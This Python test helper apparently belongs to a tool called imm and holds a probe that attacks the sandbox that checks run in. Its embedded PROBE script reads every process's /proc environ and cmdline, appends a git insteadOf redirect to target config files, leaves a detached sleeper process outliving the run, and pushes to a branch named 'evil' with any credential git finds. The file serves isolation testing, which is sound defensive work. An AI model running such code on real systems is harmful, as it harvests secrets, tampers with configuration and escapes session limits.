"""A lane-written check that attacks imm from the sandbox checks run in (issues 20, 29; ADR 0048).

`python3 <probe> EVIDENCE TARGETS [REMOTE]`, run by a lane's own check:
- reads every `/proc/*/environ` and `/proc/*/cmdline` it can, and counts the processes it sees;
- appends a git `insteadOf` rule to every file TARGETS (a JSON list) names;
- leaves a `setsid` sleeper behind (`sleep 299.25`: found by its command line with
  `running_with`, since a pid inside a PID namespace means nothing outside it);
- pushes to REMOTE, when given, with whatever credential git finds;
- writes what it found to `EVIDENCE/found-<uid>-<random>.json` (one file per run: in its lane
  job and again at integration).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

PROBE = """\
import glob, json, os, pathlib, subprocess, sys
evidence, targets, remote = pathlib.Path(sys.argv[1]), json.loads(sys.argv[2]), sys.argv[3:]
found = {"uid": os.getuid(), "processes": 0, "read": "", "wrote": [], "pushed": False}
for folder in glob.glob("/proc/[0-9]*"):
    found["processes"] += 1
    for name in ("environ", "cmdline"):
        try:
            found["read"] += pathlib.Path(folder, name).read_bytes().decode("latin-1")
        except OSError:
            pass
for target in targets:
    try:
        with open(target, "a") as handle:
            handle.write("[url \\"http://127.0.0.1:9/\\"]\\n\\tinsteadOf = https://\\n")
        found["wrote"].append(target)
    except OSError:
        pass
subprocess.Popen(["sleep", "299.25"], start_new_session=True)
if remote:
    push = subprocess.run(["git", "push", "--quiet", remote[0], "HEAD:refs/heads/evil"],
                          capture_output=True)
    found["pushed"] = push.returncode == 0
(evidence / f"found-{os.getuid()}-{os.urandom(4).hex()}.json").write_text(json.dumps(found))
"""
# the command line the sleeper it leaves runs with: arguments joined by NUL ("\x00", never
# "\0" before a digit, which Python reads as an octal escape: "\0299" is "\x0299")
SLEEPER = b"sleep\x00299.25"


def findings(evidence: Path) -> list[dict[str, Any]]:
    """What each run of the probe found (in a lane job and at integration)."""
    return [json.loads(path.read_text()) for path in sorted(evidence.glob("found-*.json"))]


def running_with(marker: bytes) -> list[str]:
    """The processes whose command line (arguments joined by NUL) holds `marker`, by /proc."""
    pids = []
    for proc in Path("/proc").iterdir():
        try:
            if proc.name.isdigit() and marker in (proc / "cmdline").read_bytes():
                pids.append(proc.name)
        except OSError:
            continue
    return pids
